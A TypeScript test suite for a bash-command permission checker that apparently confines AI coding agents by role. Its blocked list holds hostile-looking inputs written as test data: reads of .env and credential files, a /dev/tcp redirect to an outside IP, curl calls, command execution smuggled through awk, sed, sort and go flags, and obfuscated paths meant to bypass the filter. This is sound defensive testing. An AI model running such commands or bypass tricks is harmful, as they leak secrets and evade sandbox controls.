// biome-ignore-all lint/suspicious/noTemplateCurlyInString: text for bash
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { decideBash, makePolicy, memoryFacts } from './fixtures.ts';

const facts = memoryFacts('/wt', [
  '.git',
  '.env',
  'README.md',
  'package.json',
  'src/app.ts',
  'src/util/a.ts',
  'src/util/b.ts',
  'src/odd/--output=x',
  'src/link -> ../infra',
  'src/inner -> util',
  'infra/main.tf',
  'docs/',
]);
const permissions = {
  allowed_paths: ['src/**', 'test/**', 'docs/**', 'package.json', 'build/**'],
  hidden_paths: ['.env*', '**/.env*', 'infra/**', '**/*.key'],
  bash_rules: {
    allowed_commands: [
      'git status',
      'git diff',
      'git log',
      'git show',
      'git add',
      'git commit',
      'git ls-files',
      'git rev-parse',
      'git branch (listing only)',
      'git grep',
      'git stash',
      'npm test',
      'npm run',
      'npm ci',
      'node --test',
      'node',
      'go test',
      'go build',
      'go vet',
      'make',
      'ls',
      'cat',
      'head',
      'tail',
      'wc',
      'grep',
      'rg',
      'sort',
      'uniq',
      'find',
      'sed',
      'awk',
      'mkdir',
      'rm',
      'cp',
      'mv',
      'touch',
      'echo',
      'printf',
      'pwd',
      'test',
      '[',
      'timeout',
      'env',
      'xargs',
      'tee',
      'diff',
      'cargo test',
      'eslint',
      './scripts/check.sh',
      'bash',
      'tree',
      'jq',
      'git push',
      'command',
      'time',
    ],
    allowed_env: ['CI', 'NODE_ENV'],
    blocked_patterns: ['\\bsudo\\b'],
  },
};
const policy = makePolicy({
  config: { permissions, validation: { commit_format: { pattern: '^(feat|fix|test): .{3,}' } } },
  locks: ['src/', 'test/', 'docs/', 'package.json', 'build/'],
});

const allowed = [
  'git status -sb',
  'git --no-pager log --oneline -5',
  'git log --author "A B" --since="2 days ago" -- src',
  "git log -S '/api/users' --oneline",
  'git log --format="%h %s" HEAD~3..HEAD',
  'git diff HEAD~1 -- src/app.ts',
  'git diff --output-indicator-new=+ HEAD',
  'git show HEAD:src/app.ts',
  'git show HEAD~2:./README.md',
  "git show 'HEAD@{1}' --stat",
  'git diff -- . ":!package-lock.json"',
  "git ls-files '*.ts'",
  'git rev-parse --git-dir',
  'git rev-parse --abbrev-ref HEAD',
  'git branch --show-current',
  'git branch -a',
  "git branch --list 'feature/*'",
  'git stash list',
  "git grep -n '/etc/hosts' -- src",
  'git grep -n TODO',
  'git grep -n TODO HEAD',
  "git grep '' HEAD -- src",
  'git add -A',
  'git add src/*.ts',
  'git add -- src/util',
  'git commit -am "fix: a thing"',
  'git commit -m "fix: a thing" -m "It\'s [done] & <over>; $(not run)"'.replace('$(not run)', 'not run'),
  'git commit --amend --no-edit',
  "git commit -F - <<'EOF'\nfeat: from a here-document\n\nBody with $dollars and `ticks`.\nEOF",
  "git commit -m \"$(cat <<'EOF'\nfeat: many lines\n\n- it's (fine)\n- $HOME stays\nEOF\n)\"",
  'git commit -qm "test: quiet" --trailer "Task: task-001"',
  'git commit -s -m "feat: signed off" -- src/app.ts',
  'npm test',
  'npm test 2>&1 | tail -20',
  'npm -s test',
  'npm t',
  'npm run build --silent',
  'npm run test:unit -- --grep "/a/b" -t \'x y\'',
  'npm run -w packages/a test',
  'CI=1 npm test',
  'CI=true NODE_ENV=test npm run lint && npm test || echo failed',
  'node --test test/a.test.js',
  'node scripts/gen.mjs --check',
  'go test -run "TestA|TestB" -count=1 -v ./...',
  'go test -coverprofile=build/c.out ./pkg/...',
  'go build -o build/app ./cmd/app',
  'make -C src test V=1',
  'make lint test',
  'cargo test --release -- --nocapture',
  'eslint src --fix',
  'eslint --format=stylish "src/**/*.ts"',
  './scripts/check.sh --all'.replace('./scripts/check.sh --all', 'bash scripts/check.sh --all'),
  'ls -la',
  'ls src/*.ts src/**/b.ts',
  'ls -la src docs 2>/dev/null',
  'cat src/util/{a,b}.ts',
  'mkdir -p src/{one,two}/three',
  'mkdir -p src',
  'cat /wt/src/app.ts',
  'head -n 20 src/app.ts',
  'head -20 src/app.ts; tail -n +5 src/app.ts',
  "grep -rn '/api/v1' src",
  'diff -r src test',
  'diff -rq . src',
  'diff src/a.ts src/b.ts',
  "grep -rnE '(foo|bar)\\(' --include=*.ts src",
  'grep -rn --include="*.ts" -e "a b" src/ | head -5',
  "grep -c '~' src/app.ts",
  'grep -v "^#" src/app.ts | sort | uniq -c | sort -rn',
  'rg -n --glob "*.ts" "a|b" src',
  "rg -e '..' -e '/' src",
  'sort -u src/app.ts -o build/sorted',
  "sed -n '1,40p' src/app.ts",
  "sed -i 's/foo/bar/g' src/app.ts",
  "awk '{print $1}' src/app.ts",
  "find src -name '*.ts' -not -path '*/node_modules/*' | wc -l",
  'find . -maxdepth 2 -type f',
  'rm src/util/a.ts',
  'rm -rf build/out',
  'cp src/util/a.ts src/util/c.ts',
  'mv src/util/a.ts src/util/z.ts',
  'echo "done: $?"',
  'npm test; echo $?',
  "echo 'x' >> src/app.ts",
  "printf '%s\\n' a b > src/new.txt",
  "cat > src/new.ts <<'EOF'\nexport const a = `b $c`;\nEOF",
  'cat <<EOF > src/plain.ts\nplain text\nEOF',
  'cat <<< "hello" | wc -c',
  'echo x | tee src/out.txt',
  'test -f src/app.ts && echo yes || echo no',
  '[ -d src ] && ls src',
  '[ "a" = "b" ] || true',
  'cd src && ls && cat app.ts',
  'cd src; ls; cd ..; cat package.json',
  'bash -c "ls"',
  "bash -lc 'npm test 2>&1 | tail -5'",
  "sh -c 'cd src && npm test'",
  'bash -c "bash -c ls" > build/out.txt',
  'whoami',
  'cd src/util && cat ../app.ts && git add a.ts',
  'cd /wt/src && npm test',
  '(cd src && npm test) && git status',
  '{ npm test; git status; } > build/log.txt 2>&1',
  'cd src && npm test; git status',
  'if git diff --quiet; then echo clean; else git status; fi',
  'timeout 60 npm test',
  'timeout -k 5 60s go test ./...',
  'time npm test',
  'command -v node',
  '! grep -q TODO src/app.ts',
  '# look around\nls # here\n\ngit status',
  'git status \\\n  --short',
  'git push origin HEAD',
  'jq .version package.json',
  'ls -- src',
  "echo 'don'\\''t' \"100%\" a\\ b",
  "echo $'tab\\there'",
  'echo $HOME "${USER:-nobody}" $((1 + 2 * 3))',
  'cat <(ls src) && diff <(git show HEAD:src/app.ts) src/app.ts',
  'for f in src/util/*.ts; do cp "$f" "${f%.ts}.mts"; done',
  'for f in src/util/*.ts; do echo "${f##*/}: $(wc -l < "$f")" >> "build/$(basename "$f").txt"; done',
  'for f in src/util/*.ts; do wc -l $f; done',
  'n=0; for f in src/util/*.ts; do n=$((n + 1)); done; echo "$n"; head -n $n src/app.ts',
  'n=$(wc -l < src/app.ts); head -n $((n / 2)) src/app.ts',
  'i=0; while [ $i -lt 3 ]; do npm test; i=$((i + 1)); done; for ((i = 0; i < 3; i++)); do npm test; done',
  'case "$(git branch --show-current)" in main) echo no ;; *) npm test ;; esac',
  'cat > src/new.txt <<EOF\nat $(date +%F) in $PWD, \\$HOME stays\nEOF',
  'cd src && npm test; cd - >/dev/null && cat src/app.ts',
  'pushd src >/dev/null && ls && popd >/dev/null && cat src/app.ts',
  'ls /wt/src/*.ts',
  'ls -d */ && ls -d src/*/',
  "sed -i '10a\\\n  indented\\\n  more' src/app.ts",
  "sed '/x/r src/util/a.ts' src/app.ts",
  'git commit -m "fix: use $(git rev-parse --short HEAD)"',
  'git log --author="$(git config user.name)" --oneline',
  '[ "$(npm test)" ] && echo said something',
  'unset CI && npm test',
  'curl --version && bash -n scripts/check.sh',
  'sort src/app.ts -k 2 | head -n 3',
  'FILES=$(git ls-files src/util); wc -l $FILES',
];
for (const command of allowed) {
  test(`allows ${JSON.stringify(command)}`, () => {
    const found = decideBash(policy, command, { facts });
    assert.is(found.decision, 'allow', `${found.rule}: ${found.details}`);
  });
}

const blocked: readonly (readonly [rule: string, command: string])[] = [
  ['path-malformed', 'cat $HOME/x'],
  ['bash-dynamic', 'echo $API_TOKEN'],
  ['bash-dynamic', 'echo ${x:=.env}; cat $x'],
  ['bash-dynamic', 'echo ${!x} ${x@P}'],
  ['bash-dynamic', 'echo ${x:n:1}'],
  ['bash-dynamic', 'echo $((n))'],
  ['bash-dynamic', 'echo $((a[$(rm x)]))'],
  ['bash-dynamic', 'n=$(cat src/app.ts); echo $((n + 1))'],
  ['bash-dynamic', 'echo $(( $(cat src/app.ts) ))'],
  ['bash-dynamic', 'x=$(cat src/app.ts); echo $((x))'],
  ['path-hidden', 'cat <(cat .env)'],
  ['path-hidden', 'f=.envx; cat "${f%x}"'],
  ['path-hidden', 'f=x/.env; cat "${f##*/}"'],
  ['path-not-allowed', 'for f in src/util/*.ts; do cat "$f" > "${f##*/}"; done'],
  ['path-hidden', 'while true; do cat .env; done'],
  ['path-hidden', 'case a in b) cat .env ;; esac'],
  ['path-hidden', 'cat > src/x <<EOF\n$(cat .env)\nEOF'],
  ['bash-directory', 'cd -; ls'],
  ['path-outside', 'cd src/util; cd -; cat ../../x'.replace('../../x', '../x')],
  ['path-hidden', 'ls -d infra/*'],
  ['path-hidden', "sed '$r .env' src/app.ts"],
  ['bash-wrapper', 'unset PATH'],
  ['bash-wrapper', 'source src/app.ts'],
  ['bash-syntax', 'ls \\\n'],
  ['path-malformed', 'ls ~'],
  ['bash-not-allowed', 'cat <<EOF\n$(mail)\nEOF'],
  ['bash-dynamic', "echo $'\\x2e\\x2e/x'"],
  ['bash-dynamic', "echo $'a\\\nb'"],
  ['bash-dynamic', 'echo $"hi"'],
  ['bash-dynamic', 'cat {a,{b,c}}'],
  ['bash-dynamic', 'echo {1..1000000}'],
  ['git-option', 'cd src/odd && git diff *'],
  ['bash-not-allowed', 'git commit -m "$(cat <<\'EOF\'\nfeat: x y z\nEOF\nmail)"'],
  ['commit-message', 'git commit -m "$(cat src/app.ts <<\'EOF\'\nfeat: x y z\nEOF\n)"'],
  ['path-hidden', 'git commit -m "$(cat <<\'EOF\' > .env\nfeat: x y z\nEOF\n)"'],
  ['bash-syntax', 'ls "'],
  ['bash-syntax', 'ls )'],
  ['bash-syntax', 'cat <<EOF\nnever closed'],
  ['bash-characters', 'ls\u202e src'],
  ['bash-characters', 'ls\u00a0src'],
  ['bash-characters', 'ls\u200b'],
  ['bash-construct', 'for PATH in a; do ls; done'],
  ['bash-construct', 'coproc ls'],
  ['bash-construct', '[[ x -eq 1 ]]'],
  ['bash-dynamic', '(( a[x] = 1 ))'],
  ['bash-background', 'ls &'],
  ['bash-environment', 'PATH=/tmp ls'],
  ['bash-environment', 'CI=1'],
  ['bash-environment', 'export PATH=/x'],
  ['bash-environment', 'CI+=1 ls'],
  ['bash-environment', 'GIT_SSH_COMMAND=x git status'],
  ['bash-not-allowed', './git status'],
  ['bash-not-allowed', '/usr/bin/git status'],
  ['bash-not-allowed', 'gi? status'],
  ['git-option', 'git config user.name x'],
  ['bash-not-allowed', 'git checkout -- src'],
  ['bash-not-allowed', 'git update-ref refs/heads/main HEAD'],
  ['bash-not-allowed', 'npm install left-pad'],
  ['bash-not-allowed', 'npm exec x'],
  ['bash-not-allowed', 'npx x'],
  ['bash-not-allowed', 'go run ./x'],
  ['bash-not-allowed', 'cargo run'],
  ['bash-not-allowed', 'curl http://x'],
  ['bash-not-allowed', 'git -c core.pager=x log'],
  ['bash-not-allowed', 'git -C .. status'],
  ['bash-not-allowed', 'git -p log'],
  ['bash-not-allowed', 'git --exec-path=/tmp status'],
  ['bash-not-allowed', 'git'],
  ['git-option', 'git log --output=x'],
  ['git-option', 'git log --outp x'],
  ['git-option', 'git diff -O../x'],
  ['git-option', 'git show --ext-diff'],
  ['git-option', 'git diff --no-ind a b'],
  ['git-option', 'git grep -Oless x'],
  ['git-option', 'git grep --open-files-in-pager=x y'],
  ['git-option', 'git grep -f .env x'],
  ['git-option', 'git branch -D main'],
  ['git-option', 'git branch new'],
  ['git-option', 'git branch --edit-desc'],
  ['git-option', 'git add --pathspec-from-file=/etc/passwd'],
  ['git-option', 'git add -f .'],
  ['git-option', 'git add -p'],
  ['git-option', 'git commit --no-veri -m "feat: x y z"'],
  ['git-option', 'git commit -anm "feat: x y z"'],
  ['git-option', 'git commit -c HEAD'],
  ['git-option', 'git commit --author="x <x@x>" -m "feat: x y z"'],
  ['git-option', 'git commit --template=x'],
  ['git-option', 'git commit -S -m "feat: x y z"'],
  ['git-option', 'git commit --fixup HEAD'],
  ['git-option', 'git push --no-veri'],
  ['git-option', 'git push --receive-pack=x origin'],
  ['commit-message', 'git commit'],
  ['commit-message', 'git commit -m "wip" -m "feat: the second does not count"'],
  ['commit-message', 'git commit --message=wip'],
  ['commit-message', 'git commit -F src/app.ts'],
  ['commit-message', "git commit -F - <<'EOF'\nwip\nEOF"],
  ['commit-message', 'git commit --amend'],
  ['commit-message', 'git commit -m "$(cat <<\'EOF\'\nwip\nEOF\n)"'],
  ['commit-message', 'git commit -m ""'],
  ['path-outside', 'git diff /etc/passwd'],
  ['path-outside', 'git log -- ../x'],
  ['path-hidden', 'git show HEAD:.env'],
  ['path-hidden', 'git show HEAD:infra/main.tf'],
  ['path-hidden', 'git diff -- infra'],
  ['path-hidden', "git log -p -- '.en*'"],
  ['path-hidden', 'git add .env'],
  ['path-not-allowed', 'git add README.md'],
  ['path-hidden', 'cat .e*'],
  ['path-hidden', 'cat infr?/main.tf'],
  ['path-hidden', 'cat src/link/main.tf'],
  ['path-hidden', 'cat .ENV'],
  ['path-hidden', "cat '.env'"],
  ['path-hidden', 'cat .""env'],
  ['path-hidden', 'head -n 3 ./src/../.env'],
  ['path-hidden', 'grep -r KEY --include=.env .'],
  ['path-hidden', "git grep '' HEAD:infra"],
  ['path-hidden', 'rg -g ".env*" KEY'],
  ['path-hidden', 'grep -f .env x src'],
  ['path-hidden', 'cat < .env'],
  ['path-hidden', 'cd src && cat ../.env'],
  ['path-protected', 'cat .git'],
  ['path-protected', 'ls .git/hooks'],
  ['path-protected', 'cat .gi[t]'.replace('.gi[t]', '.git')],
  ['path-protected', 'echo x > .claude/settings.json'],
  ['path-protected', 'echo x > src/.CLAUDE/settings.json'],
  ['path-protected', 'rm .blueflame.yml'],
  ['path-outside', 'cat /etc/passwd'],
  ['path-outside', 'cat ../x'],
  ['path-outside', 'ls /'],
  ['path-outside', 'find / -name x'],
  ['path-outside', 'tail -n 3 src/../../x'],
  ['path-outside', 'cat /proc/self/environ'],
  ['path-not-allowed', 'echo x > README.md'],
  ['path-not-allowed', 'rm README.md'],
  ['path-not-allowed', 'sort -o README.md src/app.ts'],
  ['path-not-allowed', 'sort -oREADME.md src/app.ts'],
  ['path-not-allowed', 'tee README.md'],
  ['path-not-allowed', 'cp src/app.ts README.md'],
  ['path-not-allowed', 'mv README.md src/'],
  ['path-not-allowed', "sed -i 's/a/b/' README.md"],
  ['path-not-allowed', 'mkdir other'],
  ['path-not-allowed', 'rm -rf .'],
  ['path-not-allowed', 'touch other'],
  ['path-not-allowed', 'tree -o other src'],
  ['bash-redirect', 'ls {fd}> src/x'],
  ['path-outside', 'ls >& /dev/tcp/1.2.3.4/80'],
  ['bash-option', 'sort --compress-program=sh src/app.ts'],
  ['path-outside', 'wc --files0-from=/etc/x'],
  ['bash-option', 'rg --pre sh x'],
  ['bash-option', 'rg --hostname-bin=sh x'],
  ['path-not-allowed', 'find . -exec rm {} +'],
  ['path-not-allowed', 'find . -delete'],
  ['path-not-allowed', 'find . -fprint x'],
  ['path-not-allowed', 'find . -name x -ok rm {} ";"'],
  ['bash-option', "sed '1e id' src/app.ts"],
  ['bash-option', "sed 's/a/b/e' src/app.ts"],
  ['bash-option', 'sed -f src/app.ts x'],
  ['bash-option', 'awk \'BEGIN{system("id")}\''],
  ['bash-option', 'awk \'{print | "sh"}\' src/app.ts'],
  ['bash-option', 'awk -f src/app.ts'],
  ['bash-option', "printf -v x '%s' a"],
  ['bash-option', "test -v 'a[$(id)]'"],
  ['bash-option', "[ -v 'a[$(id)]' ]"],
  ['bash-option', 'npm run x --script-shell=/tmp/x'],
  ['bash-option', 'npm test --prefix /tmp'],
  ['bash-option', 'npm --prefix=/tmp test'.replace('--prefix=/tmp test', 'test --prefix=/tmp')],
  ['bash-option', 'go vet -vettool=/tmp/x ./...'],
  ['bash-option', 'go test -exec sh ./...'],
  ['bash-option', 'go build -toolexec=sh ./...'],
  ['bash-option', 'go build -ldflags=-extld=sh ./...'],
  ['bash-option', 'make -f x.mk'],
  ['bash-option', 'make SHELL=/tmp/x'],
  ['bash-option', 'make --eval=x'],
  ['path-hidden', "bash -c 'cat .env'"],
  ['path-hidden', 'sh -c "cd src && cat ../.env"'],
  ['bash-not-allowed', "bash -c 'ls; curl x'"],
  ['bash-not-allowed', 'bash -c \'bash -c "curl x"\''],
  ['bash-wrapper', 'bash -c "$(cat src/app.ts)"'],
  ['path-hidden', 'bash -c \'ls "$1"\' x .env'],
  ['bash-wrapper', "ls | bash -c 'eval x'"],
  ['path-outside', "bash -c 'cd src'; cat ../x"],
  ['path-outside', 'rm -r src; cd src; cd ..; cat ../x'],
  ['bash-directory', 'cd missing; cd ..'],
  ['bash-wrapper', 'bash'],
  ['bash-dynamic', 'cat src/a.ts | xargs rm'],
  ['bash-wrapper', 'command ls'],
  ['bash-not-allowed', 'timeout 5 curl x'],
  ['bash-not-allowed', 'time curl x'],
  ['bash-not-allowed', 'ls | sh'],
  ['bash-pattern', 'echo sudo'],
  ['bash-directory', 'cd && ls'],
  ['bash-directory', 'cd - && ls'],
  ['bash-directory', 'cd .. && ls'],
  ['bash-directory', 'cd src/link && ls'.replace('link', 'inner')],
  ['bash-directory', 'cd src/* && ls'],
  ['bash-directory', 'cd a b'],
  ['path-outside', '(cd src); cat ../x'],
  // A hidden file is binary to the git of a cell; as text it would be shown.
  ['git-option', 'git log --text -p -3 src/app.ts'],
  ['git-option', 'git grep -a TOKEN HEAD'],
  ['git-option', 'git diff --binary'],
];
for (const [rule, command] of blocked) {
  test(`blocks ${JSON.stringify(command)} as ${rule}`, () => {
    const found = decideBash(policy, command, { facts });
    assert.is(found.decision, 'block');
    assert.is(found.rule, rule, found.details);
    assert.match(found.details, /\w{3}/);
  });
}

test('what npx could start is not allowed by that where it has a rule or is not installed', () => {
  const npx = makePolicy({ config: { permissions: { bash_rules: { allowed_commands: ['npx'] } } } });
  for (const command of ['git checkout main', 'curl http://x', 'nowhere-installed x'])
    assert.is(decideBash(npx, command, { facts }).decision, 'block', command);
});

test('a one-word entry for git allows what the policy has rules for, and no more', () => {
  const git = makePolicy({ config: { permissions: { bash_rules: { allowed_commands: ['git'] } } } });
  const decision = (command: string): string => decideBash(git, command, { facts }).decision;
  assert.equal(['git log', 'git status', 'git branch'].map(decision), ['allow', 'allow', 'allow']);
  assert.equal(
    ['git push', 'git config a b', 'git rm src/app.ts', 'git checkout .', 'git stash', 'git clean -fd'].map(decision),
    Array(6).fill('block'),
  );
});

test('an entry is compared word by word, never as the start of a text', () => {
  const short = makePolicy({
    config: { permissions: { bash_rules: { allowed_commands: ['npm run build', 'ls'] } } },
  });
  const decision = (command: string): string => decideBash(short, command, { facts }).decision;
  assert.is(decision('npm run build'), 'allow');
  assert.is(decision('npm run build-all'), 'block');
  assert.is(decision('npm run "build all"'), 'block');
  assert.is(decision('lsof'), 'block');
});

test('a module of python that the lead named takes options of its own', () => {
  for (const [entry, module] of [
    ['python3 -m pytest', 'pytest'],
    ['python3 -m tool', 'tool'],
    ['python3', 'pytest'],
    ['python3 -m', 'pytest'],
  ] as const) {
    const own = makePolicy({ config: { permissions: { bash_rules: { allowed_commands: [entry] } } } });
    const decision = (command: string): string => decideBash(own, command, { facts }).decision;
    for (const rest of ['', ' -q src', ' -x', ' -k name src/app.ts'])
      assert.is(decision(`python3 -m ${module}${rest}`), 'allow', `${entry}: ${rest}`);
    for (const command of [
      `python3 -m ${module} /etc/passwd`,
      `python3 -m ${module} ../x`,
      'python3 -m http.server',
      'python3 -mhttp.server',
      'python3 -q -m http.server',
    ])
      assert.is(decision(command), 'block', `${entry}: ${command}`);
  }
});

test('blocked patterns see through quotes and blanks', () => {
  const strict = makePolicy({
    config: {
      permissions: {
        bash_rules: { allowed_commands: ['git push', 'rm'], blocked_patterns: ['git push', '^rm -rf'] },
      },
    },
  });
  assert.is(decideBash(strict, 'git  "push"', { facts }).rule, 'bash-pattern');
  assert.is(decideBash(strict, 'rm   -rf src', { facts }).rule, 'bash-pattern');
});

test('VAL-2: a validator asks for its diagnostics word for word; nothing is run in its cell', () => {
  const validator = makePolicy({
    role: 'validator',
    config: {
      validation: { validator_diagnostics: { commands: ['npm test', 'go vet ./... && go test ./...'] } },
    },
  });
  const rule = (command: string): string => decideBash(validator, command, { facts }).rule;
  assert.is(rule(' npm test '), 'recorded-only');
  assert.is(rule('go vet ./... && go test ./...'), 'recorded-only');
  assert.is(rule('npm test -- --watch'), 'diagnostics-only');
  assert.is(rule('npm test; ls'), 'diagnostics-only');
  assert.is(rule('ls'), 'diagnostics-only');
  assert.is(rule('true'), 'diagnostics-only');
});

test('a merger runs no code of what it merges, whatever the lead allows workers', () => {
  const named = ['npm test', 'make', './gradlew', 'node', 'timeout', 'git add', 'git commit', 'git lfs', 'rm', 'npx'];
  const merger = makePolicy({
    role: 'merger',
    config: { permissions: { bash_rules: { allowed_commands: named } } },
  });
  const rule = (command: string): string => decideBash(merger, command, { facts }).rule;
  assert.equal(merger.allowed_commands, ['timeout', 'git add', 'git commit', 'rm']);
  for (const command of ['npm test', 'make', './gradlew test', 'node src/app.ts', 'timeout 5 npm test', 'git lfs'])
    assert.is(rule(command), 'bash-not-allowed', command);
  assert.is(rule('git add src/app.ts'), 'allowed');
  assert.match(decideBash(merger, 'npm test', { facts }).details, 'The checks run after a merger commits');
});

test('a planner looks and changes nothing', () => {
  const planner = makePolicy({ role: 'planner' });
  const rule = (command: string): string => decideBash(planner, command, { facts }).rule;
  assert.equal(
    ['git log', 'ls src', 'cat README.md', 'grep -rn x src', 'find . -type f'].map(rule),
    Array(5).fill('allowed'),
  );
  assert.is(rule('echo x > src/app.ts'), 'read-only-role');
  assert.is(rule('sort -o src/app.ts README.md'), 'read-only-role');
  assert.is(rule("sed -i 's/a/b/' src/app.ts"), 'read-only-role');
  assert.is(rule('git commit -m x'), 'bash-not-allowed');
  assert.is(rule('ls 2>/dev/null'), 'allowed');
});

test('any text ends in a decision', () => {
  let state = 7;
  const next = (limit: number): number => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * limit);
  };
  const pieces = [
    'git',
    ' ',
    'ls',
    '$(',
    ')',
    '`',
    '"',
    "'",
    '\\',
    '\n',
    ';',
    '&&',
    '|',
    '<<EOF',
    'EOF',
    '>',
    '{',
    '}',
    '*',
    '[',
    '((',
    '-m',
    '~',
    'cat',
    '=',
    '.env',
    '!',
  ];
  for (let round = 0; round < 3_000; round += 1) {
    const text = Array.from({ length: 1 + next(14) }, () => pieces[next(pieces.length)] ?? '').join('');
    const found = decideBash(policy, text, { facts });
    assert.is.not(found.rule, 'policy-error', `${JSON.stringify(text)}: ${found.details}`);
    if (found.decision === 'allow') assert.not.match(text, /[`~]|\$\(|\.env(?!\w)(?![^\n]*EOF)/, text);
  }
});

test('WAT-4 `git reset` of files is an older `git restore --staged`, and nothing else is', () => {
  const config = { permissions: { bash_rules: { allowed_commands: ['git restore'] } } };
  const judge = (line: string): string => decideBash(makePolicy({ config }), line, { facts }).decision;
  for (const line of ['git reset HEAD src/app.ts', 'git reset src/app.ts', 'git reset -- src/app.ts'])
    assert.is(judge(line), 'allow', line);
  for (const line of ['git reset --hard', 'git reset HEAD~1', 'git reset main', 'git reset --hard src/app.ts'])
    assert.is(judge(line), 'block', line);
});

test.run();
